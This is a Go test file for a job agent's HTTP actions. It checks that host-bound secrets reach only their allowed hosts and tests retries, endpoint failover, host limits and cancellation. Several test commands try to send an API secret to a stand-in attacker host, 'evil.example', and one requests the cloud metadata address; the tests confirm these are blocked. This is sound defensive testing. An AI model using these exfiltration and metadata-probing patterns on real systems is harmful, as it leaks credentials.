package agent_test

import (
	"context"
	"fmt"
	"io"
	"net"
	"net/http"
	"sync/atomic"
	"testing"
	"testing/synctest"
	"time"

	"github.com/google/uuid"
	"github.com/stretchr/testify/require"
	"go.uber.org/zap/zaptest"

	"github.com/jobagent/jobagent/agent"
	"github.com/jobagent/jobagent/controldb/catalog"
	"github.com/jobagent/jobagent/controldb/executions"
	"github.com/jobagent/jobagent/controldb/settings"
	"github.com/jobagent/jobagent/jobs"
	"github.com/jobagent/jobagent/jobs/action"
	"github.com/jobagent/jobagent/jobs/model"
	"github.com/jobagent/jobagent/targets"
	"github.com/jobagent/jobagent/targets/outbound"
	"github.com/jobagent/jobagent/targets/queue"
	"github.com/jobagent/jobagent/testenv"
	"github.com/jobagent/jobagent/testenv/agents"
	"github.com/jobagent/jobagent/testenv/endpoint"
	"github.com/jobagent/jobagent/testenv/invariant"
)

// actionFixture is a fixture whose agents call an endpoint in memory.
type actionFixture struct {
	*fixture
	endpoint *endpoint.Endpoint
}

// newActionFixture creates a fixture with n target databases and an endpoint.
func newActionFixture(t *testing.T, n int, handler http.HandlerFunc) *actionFixture {
	t.Helper()
	return &actionFixture{fixture: newFixture(t, testenv.Embedded(t, testenv.Options{}), n), endpoint: endpoint.New(t, handler)}
}

// actions returns what the fixture's agents do beside T-SQL.
func (f *actionFixture) actions(t *testing.T) agent.Actions {
	return agent.Actions{Runners: f.endpoint.Runners(t), CallbackURL: "https://agent.example.com/jobs"}
}

// startAgent starts an agent with actions; change may change them.
func (f *actionFixture) startAgent(t *testing.T, cfg agent.Config, change ...func(*agent.Actions)) (stop func()) {
	t.Helper()
	tools := agents.Tools(t, f.Env, f.Store)
	tools.Actions = f.actions(t)
	for _, c := range change {
		c(&tools.Actions)
	}
	hosting, err := agent.New(cfg, f.Store, tools, nil, zaptest.NewLogger(t))
	require.NoError(t, err)
	return agents.Run(t, hosting)
}

// addAction creates a job whose one step is an action; without a group, it runs on its endpoint.
func (f *actionFixture) addAction(t *testing.T, job, group, command string, options ...func(*model.StepSpec)) {
	t.Helper()
	_, err := catalog.On(f.Store).AddJob(t.Context(), model.JobSpec{Name: job})
	require.NoError(t, err)
	spec := model.StepSpec{JobName: job, Command: new(command), CommandType: ptr(string(action.TypeHTTP)), TargetGroup: new(group)}
	for _, option := range options {
		option(&spec)
	}
	_, err = catalog.On(f.Store).AddJobStep(t.Context(), spec)
	require.NoError(t, err)
}

// actionBubble runs a test of actions in virtual time.
func actionBubble(t *testing.T, n int, handler http.HandlerFunc, fn func(t *testing.T, f *actionFixture)) {
	t.Helper()
	synctest.Test(t, func(t *testing.T) { fn(t, newActionFixture(t, n, handler)) })
}

// done answers 200.
func done(w http.ResponseWriter, _ *http.Request) { _, _ = io.WriteString(w, `{"done": true}`) }

// startWith starts a run with parameters.
func (f *actionFixture) startWith(t *testing.T, job, parameters string) uuid.UUID {
	t.Helper()
	id, err := executions.On(f.Store).Start(t.Context(), executions.StartRequest{Job: job, Parameters: parameters})
	require.NoError(t, err)
	return id
}

// messages returns the texts of a run's messages of one kind.
func (f *actionFixture) messages(t *testing.T, id uuid.UUID, kind targets.MessageKind) (texts []string) {
	t.Helper()
	list, err := executions.On(f.Store).Messages(t.Context(), id)
	require.NoError(t, err)
	for _, m := range list {
		if m.Message.Kind == kind {
			texts = append(texts, m.Message.Text)
		}
	}
	return texts
}

// A secret that is bound to hosts is sent to no other host, whatever the definition contains. The
// attempt fails before it sends, without a retry, and its message has the reason.
func TestBoundSecretsGoToTheirHostsOnly(t *testing.T) {
	testenv.Long(t)
	const secret = "s3cret-of-the-api"
	actionBubble(t, 0, done, func(t *testing.T, f *actionFixture) {
		f.startAgent(t, agent.Config{}, func(a *agent.Actions) {
			a.Secret = func(_ context.Context, name string) (action.Value, error) {
				if name == "sas" {
					return action.Secret(tokenOfTests), nil
				}
				return action.Secret(secret, "api.example.com", "*.example.org:8080"), nil
			}
			network, err := outbound.New(f.endpoint.Config())
			require.NoError(t, err)
			a.Runners[action.TypeStorageQueue] = queue.NewRunner(queue.Config{Network: network})
		})
		const key = `, "allow_http": true, "method": "POST", "headers": {"X-Api-Key": "$(secret.api)"}}`
		oauth := func(token string) string {
			return `{"url": "http://api.example.com/", "allow_http": true, "auth": {"kind": "oauth2-client-credentials", "token_url": "` + token +
				`", "client_id": "c", "client_secret": "$(secret.api)"}}`
		}
		for i, c := range []struct {
			command string
			host    string // that may not receive the secret; empty: the action succeeds
			storage bool
		}{
			{command: `{"url": "http://api.example.com/"` + key},
			{command: `{"url": "http://API.Example.com.:8080/?x=$(secret.api)"` + key},
			{command: `{"url": "http://a.example.org:8080/"` + key},
			{command: `{"url": "http://$(param.host)/"` + key},
			{command: `{"endpoints": ["http://api.example.com/", "http://evil.example/"]` + key},
			{command: `{"url": "http://evil.example/"` + key, host: "evil.example"},
			{command: `{"url": "http://evil.example/?x=$(secret.api)", "allow_http": true}`, host: "evil.example"},
			{command: `{"url": "http://evil.example/", "allow_http": true, "body": {"x": "$(secret.api)"}}`, host: "evil.example"},
			{command: `{"url": "http://a.example.org/"` + key, host: "a.example.org"},
			{command: `{"url": "http://$(param.host).evil.example/"` + key, host: "api.example.com.evil.example"},
			{command: `{"endpoints": ["http://evil.example/", "http://api.example.com/"]` + key, host: "evil.example"},
			{command: oauth("http://login.evil.example/token"), host: "login.evil.example"},
			{command: `{"account": "http://store.evil.example/account", "queue": "jobs", "message": "$(secret.api)", "sas_token": "$(secret.sas)",
				"allow_http": true}`, host: "store.evil.example", storage: true},
		} {
			before := len(f.endpoint.Requests())
			name := fmt.Sprintf("job %d", i)
			var options []func(*model.StepSpec)
			if c.storage {
				options = append(options, storageStep)
			}
			f.addAction(t, name, "", c.command, options...)
			id := f.startWith(t, name, `{"host": "api.example.com"}`)
			rows := f.ended(t, id, time.Minute)
			last := rows[len(rows)-1]
			if c.host == "" {
				require.Equal(t, jobs.Succeeded, rows[0].Lifecycle, "%s: %s", c.command, last.LastMessage)
				require.Len(t, f.endpoint.Requests(), before+1, c.command)
				continue
			}
			require.Equal(t, jobs.Failed, rows[0].Lifecycle, c.command)
			require.Contains(t, last.LastMessage, "Nothing was sent: secret ", c.command)
			require.Contains(t, last.LastMessage, "it may not be sent to "+c.host+"; its hosts are api.example.com, *.example.org:8080", c.command)
			require.NotContains(t, last.LastMessage, secret)
			require.Equal(t, 1, last.Attempts, c.command)
			require.Len(t, f.endpoint.Requests(), before, c.command)
		}
	})
}

func TestHTTPStepCallsItsEndpoint(t *testing.T) {
	const secret = "s3cret-of-the-api"
	actionBubble(t, 0, done, func(t *testing.T, f *actionFixture) {
		f.startAgent(t, agent.Config{}, func(a *agent.Actions) {
			a.Secret = func(_ context.Context, name string) (action.Value, error) {
				if name != "api" {
					return action.Value{}, agent.ErrNoSecret
				}
				return action.Secret(secret), nil
			}
		})
		f.addAction(t, "call", "", `{"url": "http://api.example.com:8080/$(param.tenant)?attempt=$(attempt)", "allow_http": true,
			"headers": {"X-Api-Key": "$(secret.api)"}, "body": {"step": "$(step_name)", "n": "$(json:param.n)"}}`)
		id := f.startWith(t, "call", `{"tenant": "a b/c", "n": 7}`)
		rows := f.ended(t, id, time.Minute)
		require.Equal(t, jobs.Succeeded, rows[0].Lifecycle, rows[len(rows)-1].LastMessage)
		require.Equal(t, "api.example.com:8080", rows[2].Place())
		require.Equal(t, "Endpoint", rows[2].TargetType)
		requests := f.endpoint.Requests()
		require.Len(t, requests, 1)
		require.Equal(t, "/a%20b%2Fc?attempt=1", requests[0].Path)
		require.JSONEq(t, `{"step": "JobStep", "n": 7}`, requests[0].Body)
		require.Equal(t, secret, requests[0].Header.Get("X-Api-Key"))
		require.Len(t, f.messages(t, id, targets.KindResponse), 1)
		require.Equal(t, []string{`{"done": true}`}, f.messages(t, id, targets.KindBody))
		found, err := invariant.FindSecrets(t.Context(), f.DB(t, f.Control), []string{secret})
		require.NoError(t, err)
		require.Empty(t, found)

		f.addAction(t, "unknown secret", "", `{"url": "http://api.example.com/", "allow_http": true, "headers": {"X-Api-Key": "$(secret.other)"}}`,
			retries(5, 1))
		f.addAction(t, "unknown parameter", "", `{"url": "http://api.example.com/$(param.missing)", "allow_http": true}`, retries(5, 1))
		for _, job := range []string{"unknown secret", "unknown parameter"} {
			rows = f.ended(t, f.Start(t, job), time.Minute)
			require.Equal(t, jobs.Failed, rows[0].Lifecycle)
			last := rows[len(rows)-1]
			require.Equal(t, 1, last.Attempts, "%s: another attempt would not help", job)
			require.Contains(t, last.LastMessage, "Nothing was sent")
		}
		require.Len(t, f.endpoint.Requests(), 1)
	})
}

// Answers of a service that is overloaded are repeated after the wait that the service asks for,
// with the same key. Other failures of a request are final.
func TestHTTPRetriesFollowTheAnswer(t *testing.T) {
	skipUnderRace(t) // minutes of virtual time
	var tries atomic.Int32
	actionBubble(t, 0, func(w http.ResponseWriter, r *http.Request) {
		switch {
		case r.URL.Path == "/missing":
			w.WriteHeader(http.StatusNotFound)
		case tries.Add(1) == 1:
			w.Header().Set("Retry-After", "30")
			w.WriteHeader(http.StatusServiceUnavailable)
		case tries.Load() == 2:
			panic(http.ErrAbortHandler) // no answer: the outcome is unknown
		}
	}, func(t *testing.T, f *actionFixture) {
		f.startAgent(t, agent.Config{})
		f.addAction(t, "busy", "", `{"url": "http://api.example.com/busy", "allow_http": true}`, retries(5, 1), func(s *model.StepSpec) {
			s.MaximumRetryInterval = ptr(60)
		})
		f.addAction(t, "missing", "", `{"url": "http://api.example.com/missing", "allow_http": true}`, retries(5, 1))
		rows := f.ended(t, f.Start(t, "busy"), 5*time.Minute)
		require.Equal(t, jobs.Succeeded, rows[0].Lifecycle, rows[2].LastMessage)
		require.Equal(t, 3, rows[2].Attempts)
		requests := f.endpoint.Requests()
		require.Len(t, requests, 3)
		require.GreaterOrEqual(t, requests[1].At.Sub(requests[0].At), 30*time.Second-time.Millisecond,
			"Retry-After is longer than the policy's wait; the database keeps 100 ns")
		require.Less(t, requests[2].At.Sub(requests[1].At), 10*time.Second)
		for _, r := range requests {
			require.Equal(t, requests[0].Header.Get("Idempotency-Key"), r.Header.Get("Idempotency-Key"))
		}
		require.NotEmpty(t, requests[0].Header.Get("Idempotency-Key"))

		rows = f.ended(t, f.Start(t, "missing"), 5*time.Minute)
		require.Equal(t, jobs.Failed, rows[0].Lifecycle)
		require.Equal(t, 1, rows[2].Attempts)
		require.Contains(t, rows[2].LastMessage, "404")
	})
}

// The message of an attempt names the endpoint that the attempt called, not the first one.
func TestMessagesNameTheEndpointThatWasCalled(t *testing.T) {
	actionBubble(t, 0, func(w http.ResponseWriter, r *http.Request) {
		if r.Host == "one.example.com" {
			w.WriteHeader(http.StatusServiceUnavailable)
		}
	}, func(t *testing.T, f *actionFixture) {
		f.startAgent(t, agent.Config{})
		const command = `{"endpoints": ["http://one.example.com/x", "http://two.example.com/x"], "allow_http": true}`
		f.addAction(t, "second", "", command, retries(1, 1))
		rows := f.ended(t, f.Start(t, "second"), 5*time.Minute)
		require.Equal(t, 2, rows[2].Attempts)
		require.Contains(t, rows[2].LastMessage, "Step 1 succeeded execution on endpoint 'two.example.com'.")
		require.Equal(t, "one.example.com", rows[2].Server, "the target stays")
	})
}

// The attempt that another endpoint gets is checked for this endpoint: it may not receive a secret
// that the endpoint of the first attempt may.
func TestSecretsAreCheckedForTheEndpointOfTheAttempt(t *testing.T) {
	actionBubble(t, 0, func(w http.ResponseWriter, _ *http.Request) { w.WriteHeader(http.StatusServiceUnavailable) }, func(t *testing.T, f *actionFixture) {
		f.startAgent(t, agent.Config{}, func(a *agent.Actions) {
			a.Secret = func(context.Context, string) (action.Value, error) {
				return action.Secret("s3cret-of-the-api", "api.example.com"), nil
			}
		})
		f.addAction(t, "call", "", `{"endpoints": ["http://api.example.com/", "http://evil.example/"], "allow_http": true, "method": "POST",
"headers": {"X-Api-Key": "$(secret.api)"}}`, retries(1, 1))
		rows := f.ended(t, f.startWith(t, "call", ""), time.Minute)
		require.Equal(t, jobs.Failed, rows[0].Lifecycle)
		require.Contains(t, rows[len(rows)-1].LastMessage, "it may not be sent to evil.example")
		require.Len(t, f.endpoint.Requests(), 1)
	})
}

// Case 128: an HTTP step with a target group of 24 databases makes one request for each, with the
// name of the database in the path, and a limit on the host holds.
func TestCase128(t *testing.T) {
	testenv.Long(t)
	actionBubble(t, 24, func(http.ResponseWriter, *http.Request) { <-time.After(2 * time.Second) }, func(t *testing.T, f *actionFixture) {
		require.NoError(t, settings.On(f.Store).SetLimit(t.Context(), model.Limit{Scope: "Server", Name: "api.example.com", Max: 2}))
		f.startAgent(t, agent.Config{})
		f.addAction(t, "tenants", testenv.Group, `{"url": "http://api.example.com/tenants/$(database_name)/$(job_name)", "allow_http": true}`)
		rows := f.ended(t, f.Start(t, "tenants"), 10*time.Minute)
		require.Equal(t, jobs.Succeeded, rows[0].Lifecycle)
		seen := map[string]int{}
		for _, r := range f.endpoint.Requests() {
			seen[r.Path]++
		}
		require.Len(t, seen, 24)
		for i := range 24 {
			require.Equal(t, 1, seen[fmt.Sprintf("/tenants/db%d/tenants", i+1)])
		}
		require.Equal(t, 2, f.endpoint.Most(), "the limit of the host holds, and is used")
	})
}

// Case 104 of Azure's interface: the guard refuses the address of the metadata service, and no
// connection is made.
func TestArmCase104(t *testing.T) {
	actionBubble(t, 0, done, func(t *testing.T, f *actionFixture) {
		f.startAgent(t, agent.Config{})
		f.addAction(t, "j", "", `{"method": "GET", "url": "http://169.254.169.254/latest", "allow_http": true}`, retries(5, 1))
		rows := f.ended(t, f.Start(t, "j"), time.Minute)
		require.Equal(t, jobs.Failed, rows[0].Lifecycle)
		require.Equal(t, 1, rows[2].Attempts, "another attempt would not help")
		require.Contains(t, rows[2].LastMessage, `host "169.254.169.254": the agent's outbound rules refuse it`)
		require.Empty(t, f.endpoint.Requests())
	})
}

// A stop request and the time limit end a request that was sent.
func TestHTTPRequestEndsWithItsTask(t *testing.T) {
	gone := make(chan time.Time, 10)
	actionBubble(t, 0, func(_ http.ResponseWriter, r *http.Request) {
		<-r.Context().Done()
		gone <- time.Now()
	}, func(t *testing.T, f *actionFixture) {
		f.startAgent(t, agent.Config{})
		const command = `{"url": "http://api.example.com/", "allow_http": true, "response_timeout_seconds": 300}`
		f.addAction(t, "stopped", "", command)
		f.addAction(t, "limited", "", command, timeout(20), retries(5, 1))
		id := f.Start(t, "stopped")
		f.until(t, id, time.Minute, func([]executions.Execution) bool { return len(f.endpoint.Requests()) == 1 })
		require.NoError(t, executions.On(f.Store).Stop(t.Context(), id))
		asked := time.Now()
		rows := f.ended(t, id, time.Minute)
		require.Equal(t, jobs.Canceled, rows[0].Lifecycle)
		require.Less(t, (<-gone).Sub(asked), time.Second, "the connection is closed")

		started := time.Now()
		rows = f.ended(t, f.Start(t, "limited"), time.Minute)
		require.Equal(t, jobs.TimedOut, rows[0].Lifecycle)
		require.InDelta(t, 20, (<-gone).Sub(started).Seconds(), 2)
		require.Len(t, f.endpoint.Requests(), 2)
	})
}

// An agent without a runner for a type of command claims no task of the type.
func TestAgentClaimsOnlyWhatItRuns(t *testing.T) {
	actionBubble(t, 1, done, func(t *testing.T, f *actionFixture) {
		f.startAgent(t, agent.Config{}, func(a *agent.Actions) { a.Runners = nil })
		f.addAction(t, "call", "", `{"url": "http://api.example.com/", "allow_http": true}`)
		f.AddJob(t, "script", []string{"SELECT 1;"})
		id := f.Start(t, "call")
		require.Equal(t, jobs.Succeeded, f.ended(t, f.Start(t, "script"), time.Minute)[0].Lifecycle)
		<-time.After(time.Minute)
		require.True(t, f.Run(t, id)[0].Active, "no agent runs it")
		f.startAgent(t, agent.Config{})
		require.Equal(t, jobs.Succeeded, f.ended(t, id, time.Minute)[0].Lifecycle)
	})
}

// A callback needs a receiver: without one, nothing is sent.
func TestActionWithCallbackNeedsAReceiver(t *testing.T) {
	actionBubble(t, 0, done, func(t *testing.T, f *actionFixture) {
		f.startAgent(t, agent.Config{}, func(a *agent.Actions) { a.CallbackURL = "" })
		f.addAction(t, "call", "", `{"url": "http://api.example.com/", "allow_http": true, "callback": true, "body": "$(callback_url)"}`)
		rows := f.ended(t, f.Start(t, "call"), time.Minute)
		require.Equal(t, jobs.Failed, rows[0].Lifecycle)
		require.Contains(t, rows[2].LastMessage, "callbacks.public_url")
		require.Empty(t, f.endpoint.Requests())
	})
}

// A stop request ends an attempt before anything is sent, and the wait for another attempt.
func TestActionEndsBeforeItIsSent(t *testing.T) {
	actionBubble(t, 0, func(w http.ResponseWriter, _ *http.Request) { w.WriteHeader(http.StatusServiceUnavailable) },
		func(t *testing.T, f *actionFixture) {
			silent := func(ctx context.Context, _, _ string) (net.Conn, error) {
				<-ctx.Done()
				return nil, context.Cause(ctx)
			}
			stop := f.startAgent(t, agent.Config{}, func(a *agent.Actions) { a.Runners = f.endpoint.RunnersWith(t, silent) })
			const command = `{"url": "http://api.example.com/", "allow_http": true}`
			f.addAction(t, "dialing", "", command, retries(5, 600))
			id := f.Start(t, "dialing")
			f.until(t, id, time.Minute, func(rows []executions.Execution) bool {
				return len(rows) == 3 && rows[2].Lifecycle == jobs.InProgress
			})
			require.NoError(t, executions.On(f.Store).Stop(t.Context(), id))
			asked := time.Now()
			rows := f.ended(t, id, time.Minute)
			require.Equal(t, jobs.Canceled, rows[0].Lifecycle)
			require.Less(t, time.Since(asked), 2*time.Second)
			stop()

			f.startAgent(t, agent.Config{})
			id = f.Start(t, "dialing")
			f.until(t, id, time.Minute, func(rows []executions.Execution) bool {
				return len(rows) == 3 && rows[2].Lifecycle == jobs.WaitingForRetry
			})
			require.NoError(t, executions.On(f.Store).Stop(t.Context(), id))
			require.Equal(t, jobs.Canceled, f.ended(t, id, time.Minute)[0].Lifecycle)
			require.Len(t, f.endpoint.Requests(), 1)
		})
}
